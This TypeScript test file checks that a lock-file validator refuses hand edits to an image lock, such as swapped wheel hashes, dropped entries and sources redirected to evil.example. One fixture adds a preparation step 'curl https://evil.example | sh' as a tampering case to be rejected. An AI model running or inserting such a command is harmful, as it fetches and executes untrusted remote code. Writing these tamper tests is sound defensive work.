import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { StxError } from '@stx/errors';
import { parseYaml, renderLock, requireSealed, soundLockSchema, type Lock } from '@stx/formats';
import { checkLock, originOf } from '@stx/lock';
import { makeContext } from '../context/make-context.js';
import { imageRequirements, imageSubject } from '../requirements/gather-requirements.js';

const root = fileURLToPath(new URL('../../../..', import.meta.url));
const FILE = 'images/placement/image.lock.yaml';
const text = readFileSync(join(root, FILE), 'utf8');
const COMMAND = './nx lock placement';
const context = makeContext({
  root,
  project: 'placement',
  target: 'check-lock',
  instructions: [],
  name: 'placement',
  say: () => undefined,
  conclude: () => undefined,
  logFile: '',
});
const subject = imageSubject(context, {});
const request = imageRequirements(context, subject);
const constraints = context.workspace.constraints(subject.release);

type Editable = { -readonly [Key in keyof Lock]: Lock[Key] };
const committed = parseYaml(soundLockSchema, text, FILE);
const lock = (): Editable => structuredClone(committed);
type Entry = Lock['distributions'][number];

function entry(at: Lock, name: string): Entry {
  const found = at.distributions.find((each) => each.name === name);
  if (found === undefined) throw new Error(`${FILE} has no ${name}`);
  return found;
}

const HASH = 'f'.repeat(64);
const evil = { git: { repository: 'https://evil.example/placement', commit: 'a'.repeat(40), tree: 'b'.repeat(40) } };
const plain = (each: Entry | undefined): Entry => {
  if (each === undefined) throw new Error('no such entry');
  return each;
};

/** Single edits by hand or by a merge; the third entry says whether the workspace alone detects one in a lock with a new digest. */
const EDITS: readonly [string, (at: Editable) => unknown, 'shown' | 'of the index'][] = [
  ['the sha256 of a wheel', (at) => Object.assign(entry(at, 'pyyaml').wheel ?? {}, { sha256: HASH }), 'of the index'],
  ["another distribution's wheel", (at) => (entry(at, 'pyyaml').wheel = entry(at, 'attrs').wheel), 'shown'],
  [
    'a wheel for Windows',
    (at) => Object.assign(entry(at, 'pyyaml').wheel ?? {}, { file: 'pyyaml-6.0.3-cp313-cp313-win_amd64.whl' }),
    'shown',
  ],
  [
    'a wheel for another Python',
    (at) =>
      Object.assign(entry(at, 'pyyaml').wheel ?? {}, { file: 'pyyaml-6.0.3-cp312-cp312-manylinux_2_28_x86_64.whl' }),
    'shown',
  ],
  [
    'a constrained version',
    (at) =>
      Object.assign(entry(at, 'oslo-config'), {
        version: '9.0.0',
        wheel: { file: 'oslo_config-9.0.0-py3-none-any.whl', sha256: HASH },
      }),
    'shown',
  ],
  ...(['Oslo.Config', 'oslo_config', 'OSLO--config'] as const).map((name): (typeof EDITS)[number] => [
    `a constrained version of ${name}`,
    (at) =>
      Object.assign(entry(at, 'oslo-config'), {
        name,
        version: '9.0.0',
        wheel: { file: 'oslo_config-9.0.0-py3-none-any.whl', sha256: HASH },
      }),
    'shown',
  ]),
  ['a set in addition to the wheel', (at) => (entry(at, 'oslo-config').set = 'base'), 'shown'],
  [
    'a set in place of the wheel',
    (at) => Object.assign(entry(at, 'pyyaml'), { wheel: undefined, set: 'base' }),
    'shown',
  ],
  ['no origin', (at) => delete entry(at, 'pyyaml').wheel, 'shown'],
  ['a source in addition to the wheel', (at) => (entry(at, 'pyyaml').source = evil), 'shown'],
  [
    'a source in place of the wheel',
    (at) => Object.assign(entry(at, 'pyyaml'), { wheel: undefined, source: evil }),
    'shown',
  ],
  [
    'the version of an unconstrained distribution',
    (at) => Object.assign(entry(at, 'pip'), { version: '1.0' }),
    'shown',
  ],
  [
    'a required entry dropped',
    (at) => (at.distributions = at.distributions.filter(({ name }) => name !== 'pip')),
    'shown',
  ],
  [
    'an entry that another needs dropped',
    (at) => (at.distributions = at.distributions.filter(({ name }) => name !== 'attrs')),
    'of the index',
  ],
  ['an entry twice', (at) => at.distributions.push(entry(at, 'pyyaml')), 'shown'],
  [
    'an entry twice, spelled differently',
    (at) => at.distributions.push({ ...entry(at, 'oslo-config'), name: 'oslo.config' }),
    'shown',
  ],
  ['another repository of the project', (at) => Object.assign(plain(at.project), { source: evil }), 'shown'],
  [
    "another project's sdist",
    (at) => Object.assign(plain(at.project), { source: { sdist: { file: 'evil-15.0.0.tar.gz', sha256: HASH } } }),
    'shown',
  ],
  ['another version of the project', (at) => Object.assign(plain(at.project), { version: '15.0.1' }), 'shown'],
  ['no project', (at) => delete at.project, 'shown'],
  ['a further project', (at) => at.extraProjects.push({ name: 'evil', version: '1', source: evil }), 'shown'],
  ['a preparation', (at) => (entry(at, 'pyyaml').prepare = ['curl https://evil.example | sh']), 'shown'],
  ['an environment', (at) => (entry(at, 'pyyaml').environment = { PYTHONPATH: '/evil' }), 'shown'],
  ['bundled libraries', (at) => (entry(at, 'pyyaml').bundle = true), 'shown'],
  ['a waiver', (at) => (entry(at, 'pyyaml').waiver = 'nobody asked for it'), 'shown'],
  [
    'a waiver of a wheel',
    (at) => (at.wheelWaivers = [{ distribution: 'pyyaml', sha256: HASH, reason: 'nobody asked for it', record: true }]),
    'shown',
  ],
  ['a build requirement that is not locked', (at) => plain(at.project).buildRequires?.push('evil==1.0'), 'shown'],
  ['a build entry dropped', (at) => at.build.pop(), 'shown'],
  ['a build entry that nothing needs', (at) => at.build.push({ ...plain(at.build[0]), version: '999.0' }), 'shown'],
  ['a build entry from git', (at) => Object.assign(plain(at.build[0]), { wheel: undefined, source: evil }), 'shown'],
  ['a patch', (at) => (at.patches = [{ file: 'evil.patch', sha256: HASH }]), 'shown'],
  ['what is cloned', (at) => (at.extraSources = [{ name: 'novnc', source: evil }]), 'shown'],
  ['the release', (at) => (at.release = '2025.2'), 'shown'],
  ['the Python version', (at) => (at.python = '3.12'), 'shown'],
  ['the commit of LOCI', (at) => (at.loci = 'a'.repeat(40)), 'shown'],
  ['resolvedFrom', (at) => (at.resolvedFrom = `sha256:${'0'.repeat(64)}`), 'shown'],
];

/** The errors of check-lock for a lock's text. */
function refusals(edited: string): string[] {
  try {
    const read = parseYaml(soundLockSchema, edited, FILE);
    requireSealed(read, FILE, COMMAND);
    const faults = checkLock({
      file: FILE,
      command: COMMAND,
      lock: read,
      request,
      constraints,
    });
    return faults.map(({ code, hint }) => `${code}: ${hint ?? ''}`);
  } catch (error) {
    const faults: unknown[] = error instanceof AggregateError ? error.errors : [error];
    return faults.map((fault) => (fault instanceof StxError ? `${fault.code}: ${fault.hint ?? ''}` : String(fault)));
  }
}

/** The lock with an edit, and if `isSealed` with every hash computed again. */
function edited(edit: (at: Editable) => unknown, isSealed: boolean): string {
  const at = lock();
  const [before, digest] = [at.resolvedFrom, at.contentDigest];
  edit(at);
  const names = [at.project, ...at.extraProjects, ...at.distributions].flatMap((each) => each?.name ?? []);
  if (isSealed && at.resolvedFrom === before) {
    at.resolvedFrom = originOf(request, constraints, names);
  }
  const rendered = renderLock(at);
  return isSealed ? rendered : rendered.replace(/^contentDigest: .*$/mu, `contentDigest: ${digest ?? ''}`);
}

test('the committed lock is accepted', () => {
  expect(refusals(text)).toEqual([]);
});

test('a lock without contentDigest is refused with the command that writes it', () => {
  expect(refusals(text.replace(/^contentDigest: .*\n/mu, ''))).toEqual([`LOCK_EDITED: run ${COMMAND}`]);
});

test(`${String(EDITS.length)} of ${String(EDITS.length)} hand edits are refused`, () => {
  const passed = EDITS.filter(([, edit]) => refusals(edited(edit, false)).length === 0);
  expect(passed.map(([what]) => what)).toEqual([]);
});

const known = EDITS.filter(([, , shown]) => shown === 'shown');

test(`${String(known.length)} of ${String(EDITS.length)} edits are refused even if every hash in the lock is computed again; only the index detects the others`, () => {
  const passed = EDITS.filter(([, edit]) => refusals(edited(edit, true)).length === 0);
  expect(passed.map(([what]) => what)).toEqual(
    EDITS.filter(([, , shown]) => shown === 'of the index').map(([what]) => what),
  );
});

test('the lines of two branches, merged without a conflict, are refused', () => {
  const lines = text.split('\n');
  const at = lines.findIndex((line) => line === '- name: pyyaml');
  const merged = [...lines.slice(0, at), ...lines.slice(at, at + 4), ...lines.slice(at)].join('\n');
  expect(refusals(merged)).toEqual(expect.arrayContaining([expect.stringMatching(/^FORMAT_INVALID/u)]));
});
